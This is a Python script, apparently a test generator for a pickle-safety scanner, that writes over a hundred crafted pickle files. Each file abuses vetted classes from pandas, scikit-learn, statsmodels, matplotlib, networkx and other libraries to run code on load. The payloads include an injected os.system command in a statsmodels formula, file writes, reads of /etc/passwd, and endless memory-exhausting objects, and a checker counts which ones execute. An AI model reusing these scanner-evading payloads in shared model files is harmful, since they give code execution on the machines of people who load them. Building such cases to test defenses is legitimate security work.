"""Writes pickles that name nothing dangerous and run what they like: by what methods of vetted classes do with what is in a state.

    python malicious_hooks.py FOLDER [PROOF]

Each must be flagged. With PROOF, the path of a file, each is loaded as well, in a process of its own; those are told that write the file, as most
do where matplotlib, networkx, pandas, scikit-learn, statsmodels and xgboost are installed.
"""
import os
import struct
import subprocess
import sys

folder, proof = os.path.join(sys.argv[1], "malicious"), sys.argv[2] if len(sys.argv) > 2 else "proof"
os.makedirs(folder, exist_ok=True)
NONE, TRUE, ONE = b"N", b"\x88", b"G" + struct.pack(">d", 1.0)


def s(text):
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()


def name(module, attribute):
    return s(module) + s(attribute) + b"\x93"


def pairs(*of):
    return b"}(" + b"".join(of) + b"u"


def attributes(**of):
    return pairs(*(s(k) + v for k, v in of.items()))


def row(*of):
    return b"(" + b"".join(of) + b"t"


def items(*of):
    return b"](" + b"".join(of) + b"e"


def called(f, *args):
    return f + row(*args) + b"R"


def made(cls, state=None, *args):
    return cls + row(*args) + b"\x81" + (state + b"b" if state is not None else b"")


def key(value):
    """A dict with a key."""
    return b"}" + value + NONE + b"s"


# A function of scikit-learn that writes a file: dump_svmlight_file(X, y, f), of which X is left open.
WRITES = name("sklearn.datasets._svmlight_format_io", "dump_svmlight_file")
writer = called(name("functools", "partial"), WRITES) + row(WRITES, row(), attributes(y=items(ONE), f=s(proof)), NONE) + b"b"
writes = called(name("functools", "partial"), WRITES) + row(WRITES, row(), attributes(X=items(items(ONE)), y=items(ONE), f=s(proof)), NONE) + b"b"
filled = items(items(ONE)) + b"b"  # the state with which it is called
added = b"(" + items(ONE) + b"e"
# A dict of networkx that asks NODE_OK of each key, whoever asks for its length or its items. The key is ((1.0,),).
view = made(name("networkx.classes.coreviews", "FilterAtlas"), attributes(NODE_OK=writer, _atlas=pairs(row(row(ONE)), NONE)))

svc = name("sklearn.svm._classes", "SVC")
labels = called(name("pandas.core.indexes.base", "_new_Index"), name("pandas.core.indexes.base", "Index"), attributes(data=items(s("a")), name=NONE))
dtype = made(name("pandas.core.dtypes.base", "ExtensionDtype"), attributes(_metadata=view))
manager = row(items(view), items(), items(), pairs(s("0.14.1"), attributes(axes=items(view), blocks=items())))
two = row(items(view, labels), items(), items(), pairs(s("0.14.1"), attributes(axes=items(view, labels), blocks=items())))
model = name("statsmodels.base.data", "PandasData")


def formula(text):
    return made(model, attributes(restore_model_spec=TRUE, formula=text, frame=pairs(s("y"), items(ONE, ONE))))


polynomial, rpmodel = name("numpy.polynomial.polynomial", "Polynomial"), name("gensim.models.rpmodel", "RpModel")
extension, shown = name("pandas.core.dtypes.base", "ExtensionDtype"), name("sklearn.datasets._base", "get_data_home")
analyze, reader = name("sklearn.feature_extraction.text", "_analyze"), name("pandas._libs.parsers", "TextReader")
attribute = called(name("operator", "attrgetter"), s("shape"))
keyed = called(name("collections", "OrderedDict")) + attributes(keys=writes) + b"b"
nothing = b"}\x94"  # a dict that is entry 0 of the memo
first = b"h\x00"
command = "y ~ __import__('os').system('touch %s')" % proof
norm, alias = name("scipy.stats", "norm"), name("types", "GenericAlias")
template = attributes(_parse_arg_template=s("open(%r, 'w').close()" % proof)) + b"b"

# Figures of matplotlib run methods of what their state holds. Those are replaced by what writes a file where that is to be seen, and else by what is
# harmless to keep: a scanner that knows the classes cannot tell by its name that it is called.
figure, axes, line, artist = name("matplotlib.figure", "Figure"), name("matplotlib.axes._axes", "Axes"), name("matplotlib.lines", "Line2D"), name("matplotlib.artist", "Artist")
affine, composite = name("matplotlib.transforms", "Affine2D"), name("matplotlib.transforms", "CompositeGenericTransform")
registry, grouper = name("matplotlib.cbook", "CallbackRegistry"), name("matplotlib.cbook", "Grouper")
sums = called(name("functools", "partial"), name("numpy", "add")) + row(name("numpy", "add"), row(ONE, ONE), b"}", NONE) + b"b"
acts = writes if len(sys.argv) > 2 else sums


def signals(*of, **more):
    return made(registry, attributes(**{"_cid_gen": b"K\x01", "_signals": NONE, "_pickled_cids": b"\x8f", "callbacks": attributes(a=pairs(*of)) if of else b"}"} | more))


def moved(**of):
    return made(affine, attributes(**{"_parents": b"}", "_invalid": b"K\x00"} | of))


def drawn(**of):
    held = {"__mpl_version__": s("3.11.2"), "_label": NONE, "_animated": b"\x89", "_dpi": b"K\x64", "stale_callback": NONE, "_canvas_callbacks": signals(), "_axobservers": signals(), "dpi_scale_trans": moved()}
    return attributes(**of, **{k: v for k, v in held.items() if k not in of})


def placed(**of):
    return made(axes, attributes(**{"_shared_axes": b"}", "_twinned_axes": b"]"} | of))


recipes = {
    # what __setstate__ and __new__ do with what is in a state
    "axis": made(name("pandas.core.internals.managers", "SingleBlockManager"), manager),
    "axes": made(name("pandas.core.internals.managers", "BlockManager"), two),
    "categories": made(name("pandas.core.arrays.categorical", "Categorical"), attributes(_codes=view, _categories=view, _ordered=TRUE)),
    "labels": made(name("pandas.core.indexes.base", "Index"), None, view),
    "tuple": made(name("sklearn.utils._pprint", "KeyValTuple"), None, view),
    "version": made(svc, attributes(_sklearn_version=view)),
    "version.listed": made(svc, attributes(_sklearn_version=items(view))),
    "booster": made(name("xgboost.core", "Booster"), attributes(handle=view)),
    "booster.lightgbm": made(name("lightgbm.basic", "Booster"), attributes(handle=view, _handle=view)),
    "predictor": made(name("sklearn.ensemble._hist_gradient_boosting.predictor", "TreePredictor"), attributes(nodes=view)),
    "network": made(name("torch.nn.modules.conv", "Conv2d"), attributes(_parameters=view)),
    "optimizer": made(name("torch.optim.sgd", "SGD"), attributes(_patch_step_function=writes)),
    "masked": called(name("numpy.ma.core", "_mareconstruct"), name("numpy.ma", "MaskedArray"), name("numpy", "ndarray"), row(b"K\x01"), s("b"))
    + row(b"K\x01", row(b"K\x01"), called(name("numpy", "dtype"), s("f8")), b"\x89", b"C\x08" + bytes(8), b"C\x01\x00", view) + b"b",
    "formula": formula(s(command)),
    "formula.computed": formula(called(name("builtins", "str"), b"C" + bytes([len(command)]) + command.encode(), s("utf8"))),
    "formula.names": made(model, attributes(restore_model_spec=TRUE, formula=s("y ~ C(x)"), frame=attributes(y=items(ONE), x=items(items(ONE)), C=writer))),
    # attributes for which the loader asks an object before its class
    "setstate": made(svc, attributes(__setstate__=writer)) + filled,
    "setstate.bytes": made(svc, pairs(called(name("builtins", "str"), b"C\x0c__setstate__", s("utf8")), writer)) + filled,
    "setstate.scalar": made(svc, pairs(called(name("numpy", "str_"), s("__setstate__")), writer)) + filled,
    "setstate.pairs": made(name("statsmodels.base.wrapper", "ResultsWrapper"), items(row(s("__setstate__"), writer))) + filled,
    "setstate.many": made(svc, pairs(*(s("a%d" % n) + NONE for n in range(100)), s("__setstate__") + writer)) + filled,
    "setstate.namespace": called(name("types", "SimpleNamespace")) + attributes(__setstate__=writer) + b"b" + filled,
    "setstate.dict": made(name("nltk.probability", "FreqDist"), attributes(__setstate__=writer)) + filled,
    "extend": made(name("collections", "UserList"), attributes(data=items(), extend=writer)) + added,
    "extend.held": made(name("collections", "UserList"), attributes(data=made(svc, attributes(extend=writer)))) + added,
    "extend.ordered": called(name("collections", "OrderedDict")) + attributes(extend=writer) + b"b" + added,
    "extend.bunch": made(name("sklearn.utils._bunch", "Bunch")) + s("extend") + writer + b"s" + added,
    "slots.class": made(name("networkx.classes.filters", "show_nodes"), row(attributes(_free_handle=writes), attributes(__class__=name("lightgbm.basic", "Dataset")))) + b"0N",
    # what hashing, comparing and the end of an object run
    "key": key(dtype),
    "key.tuple": key(called(name("builtins", "tuple"), items(dtype))),
    "key.categories": key(made(name("pandas.core.dtypes.dtypes", "CategoricalDtype"), attributes(categories=view, ordered=TRUE))),
    "member": called(name("builtins", "frozenset"), items(dtype)),
    "member.counted": called(name("collections", "Counter"), items(dtype)),
    "key.zone": key(called(name("datetime", "datetime"), b"C\x0a\x07\xe8\x01\x01" + bytes(6), called(name("dateutil.tz.tz", "tzoffset"), NONE, b"K\x00") + attributes(utcoffset=writer) + b"b")),
    "end": made(name("lightgbm.basic", "Dataset"), attributes(_free_handle=writes)) + b"0N",
    "end.closed": made(name("nltk.tag.hunpos", "HunposTagger"), attributes(close=writes)) + b"0N",
    # what is set in a dict that an object took for its attributes, and what is changed after it was judged
    "alias": made(polynomial, nothing) + first + s("__setstate__") + writer + b"s0" + filled,
    "alias.extend": made(polynomial, nothing) + first + s("extend") + writer + b"s0" + added,
    "alias.many": made(rpmodel, nothing) + first + b"(" + s("a") + ONE + s("extend") + writer + b"u0" + added,
    "alias.call": made(polynomial, called(name("collections", "OrderedDict")) + b"\x94") + first + s("extend") + writer + b"s0" + added,
    "changed.key": b"}" + made(extension, attributes(_metadata=row())) + b"\x94" + NONE + b"s" + first + attributes(_metadata=view) + b"b0" + made(extension, attributes(_metadata=row())) + NONE + b"s",
    "changed.tuple": b"}" + made(extension, attributes(_metadata=row())) + b"\x94\x85" + NONE + b"s" + first + attributes(_metadata=view) + b"b0" + made(extension, attributes(_metadata=row())) + b"\x85" + NONE + b"s",
    "changed.list": b"}" + made(extension, attributes(_metadata=row(), x=b"]\x94")) + NONE + b"s" + first + view + b"a0",
    # attributes that replace methods of a container, and those that an exception sets
    "keys": called(name("builtins", "dict"), keyed),
    "keys.ordered": called(name("collections", "OrderedDict"), keyed),
    "keys.state": made(svc, keyed),
    "keys.lost": called(name("builtins", "dict"), keyed + b"}b"),
    "keys.pair": made(name("networkx.classes.filters", "show_nodes"), called(name("collections", "OrderedDict")) + attributes(items=writes) + b"b" + NONE + b"\x86"),
    "keys.keywords": name("builtins", "slice") + b")" + keyed + b"\x92",
    "keys.view": b"0".join([called(name("collections", "OrderedDict")) + b"\x94", called(name("types", "MappingProxyType"), first)]) + first + attributes(keys=writes) + b"b0",
    "spread": name("builtins", "slice") + view + b"R",
    "arguments": called(name("builtins", "ValueError")) + attributes(args=view) + b"b",
    # functions that are called without arguments, and those that are kept to be called
    "function": b"(" + shown + b"o",
    "function.inst": b"(isklearn.datasets._base\nget_data_home\n",
    "kept": made(name("sklearn.feature_selection._univariate_selection", "SelectKBest"), attributes(score_func=WRITES)),
    "kept.partial": writes,
    "kept.module": name("sklearn.utils._set_output", "check_library_installed"),
    "kept.address": name("sklearn.datasets._openml", "_open_openml_url"),
    "kept.folder": items(name("sklearn.datasets._base", "clear_data_home")),
    "kept.getter": called(name("functools", "partial"), analyze) + row(analyze, row(), attributes(decoder=items(attribute)), NONE) + b"b",
    "kept.getattr": called(name("functools", "partial"), analyze) + row(analyze, row(), attributes(decoder=name("operator", "attrgetter")), NONE) + b"b",
    "kept.last": called(name("numpy", "add"), items(*[NONE] * 64, analyze), ONE),
    "kept.long": items(analyze) + b"\x940" + b"]0" * 9000 + called(name("numpy", "add"), first, ONE),
    # constructors of compiled code
    "compiled": called(reader, s("/etc/passwd")),
    "compiled.bytes": called(reader, called(name("builtins", "str"), b"C\x0b/etc/passwd", s("utf8"))),
    "compiled.keyword": reader + b")" + attributes(source=s("/etc/passwd")) + b"\x92",
    "compiled.copyreg": called(name("copyreg", "__newobj__"), reader, s("/etc/passwd")),
    "compiled.base": called(name("copyreg", "_reconstructor"), reader, reader, s("/etc/passwd")),
    "compiled.measure": called(name("sklearn.neighbors._ball_tree", "BallTree64"), items(items(ONE)), b"K\x01", s("pyfunc")),
    "compiled.property": called(name("pandas._libs.properties", "CachedProperty"), analyze),
    # results that stand for what they were made of: scipy's distributions run the text of which their methods are made
    "forwarded": called(alias, norm, row()) + template,
    "forwarded.new": alias + row(norm, row()) + b"\x81" + template,
    "forwarded.nested": called(alias, called(alias, norm, row()), row()) + template,
    "forwarded.parameter": called(name("operator", "getitem"), called(alias, norm, name("typing", "AnyStr")), name("builtins", "int")) + template,
    "forwarded.union": called(name("operator", "getitem"), name("typing", "Union"), norm) + template,
    "forwarded.reduced": called(name("functools", "reduce"), name("operator", "or_"), row(norm)) + template,
    "forwarded.object": called(name("numpy", "object_"), norm) + template,
    "forwarded.truth": called(name("numpy", "logical_or"), norm, norm) + template,
    "program": name("unittest.__main__", "main"),
    "program.setup": name("setup", "main"),
    # what the loading process has one of
    "logger": called(name("logging", "getLogger"), s("joblib")) + attributes(isEnabledFor=writer) + b"b",
    "member.enumeration": called(name("catboost.core", "EFstrType"), b"K\x00") + attributes(value=writer) + b"b",
    "member.zone": called(name("pytz", "_UTC")) + attributes(utcoffset=writer) + b"b",
    "member.zone.dateutil": called(name("dateutil.tz.tz", "tzutc")) + attributes(utcoffset=NONE) + b"b",
    "member.missing": made(name("pandas._libs.missing", "NAType"), row(NONE, attributes(a=NONE))),
    "member.missing.time": called(name("pandas", "Timestamp"), s("NaT")) + attributes(a=NONE) + b"b",
    "member.flag": called(name("uuid", "SafeUUID"), b"K\x00") + attributes(_value_=ONE) + b"b",
    "member.limits": name("numpy._core.getlimits", "finfo") + row(s("D")) + b"\x81" + attributes(a=NONE) + b"b",
    # what a class is by a base of another library
    "base.distribution": made(name("statsmodels.distributions.discrete", "genpoisson_p_gen")) + template,
    "base.density": made(name("statsmodels.distributions.edgeworth", "ExpandedNormal")) + template,
    "base.type": key(made(name("polars.datatypes.classes", "DataTypeClass") + row(s("X"), row(), attributes(__hash__=writer)) + b"\x81")),
    "base.type.abstract": key(made(name("formulaic.formula", "_FormulaMeta") + row(s("X"), row(), attributes(__hash__=writer)) + b"\x81")),
    # what a figure, its axes, transforms and callbacks ask and call while they are filled
    "figure.scale.own": made(figure, drawn(dpi_scale_trans=moved(clear=acts))),
    "figure.scale.axes": made(figure, drawn(dpi_scale_trans=placed(clear=acts))),
    "figure.scale.axes.held": made(figure, drawn(dpi_scale_trans=placed(patch=made(line, attributes(get_visible=acts))))),
    "figure.scale.other": made(figure, drawn(dpi_scale_trans=made(svc, attributes(clear=acts)))),
    "figure.scale.many": made(figure, drawn(**{"a%d" % n: NONE for n in range(100)}, dpi_scale_trans=made(svc, attributes(clear=acts)))),
    "figure.scale.parent": made(figure, drawn(dpi_scale_trans=moved(_parents=pairs(b"K\x00" + made(line, attributes(_invalidate_internal=acts)))))),
    "figure.canvas": made(figure, drawn(set_canvas=acts)),
    "figure.canvas.alias": made(figure, drawn() + b"\x94") + first + s("set_canvas") + acts + b"s0" + drawn() + b"b",
    "figure.callbacks": made(figure, drawn(_canvas_callbacks=made(line, attributes(connect=acts, _connect_picklable=acts)))),
    "figure.state": made(figure, made(line, attributes(pop=acts))),
    "figure.shown": made(figure, drawn(_restore_to_pylab=TRUE, draw=acts, draw_without_rendering=acts)),
    "figure.shown.held": made(figure, drawn(_restore_to_pylab=TRUE, patch=made(line, attributes(draw=acts)), _localaxes=items(made(line, attributes(get_animated=acts))))),
    "figure.axes": made(axes, attributes(_shared_axes=made(line, attributes(items=acts)), _twinned_axes=b"]")),
    "figure.axes.state": made(axes, made(line, attributes(pop=acts))),
    "figure.axes.hash": made(axes, attributes(_shared_axes=attributes(x=items(dtype)), _twinned_axes=b"]")),
    "figure.parents": made(affine, attributes(_parents=made(line, attributes(items=acts)))),
    "figure.parents.hash": made(affine, attributes(_parents=key(dtype))),
    "figure.registry": made(registry, attributes(_cid_gen=ONE, callbacks=made(line, attributes(items=acts)))),
    "figure.registry.hash": signals(b"K\x00" + dtype),
    "figure.registry.equal": signals(*(b"K" + bytes([n]) + moved(is_affine=TRUE, get_matrix=acts) for n in range(2))),
    "figure.registry.equal.held": signals(*(b"K" + bytes([n]) + made(composite, attributes(_parents=b"}", _a=moved(is_affine=TRUE, get_matrix=acts))) for n in range(2))),
    "figure.registry.method": signals(b"K\x00" + called(name("builtins", "getattr"), made(artist, attributes(pick=dtype)), s("pick"))),
    "figure.grouper": made(grouper, attributes(_mapping=made(line, attributes(items=acts)), _ordering=b"}")),
    # what never comes to its end
    "endless.list": called(name("builtins", "list"), called(name("itertools", "repeat"), ONE)),
    "endless.cycle": called(name("collections", "deque"), called(name("itertools", "cycle"), items(ONE))),
    "endless.dict": called(name("builtins", "dict"), called(name("builtins", "zip"), called(name("itertools", "count")), called(name("itertools", "count")))),
    "endless.bytes": called(name("builtins", "bytes"), b"\x8a\x08" + struct.pack("<q", 10**14)),
    "endless.array": name("numpy", "ndarray") + row(row(b"\x8a\x08" + struct.pack("<q", 10**14))) + b"\x81",
    "endless.orders": called(name("builtins", "list"), called(name("itertools", "permutations"), called(name("builtins", "range"), b"K\x40"))),
}

LOADS = "import sys, pickle\ndef load(depth):\n    return load(depth - 1) if depth else pickle.load(open(sys.argv[1], 'rb'))\nload(3)"
ran = 0
for recipe, body in recipes.items():
    at = os.path.join(folder, "hooks.%s.pkl" % recipe)
    with open(at, "wb") as f:
        f.write(b"\x80\x04" + body + b".")
    if len(sys.argv) > 2:
        if os.path.exists(proof):
            os.remove(proof)
        subprocess.run([sys.executable, "-W", "ignore", "-c", LOADS, at], capture_output=True)
        ran += os.path.exists(proof)
        print(recipe, "runs" if os.path.exists(proof) else "-")
print(len(recipes), "files", *["%d run" % ran] * (len(sys.argv) > 2))
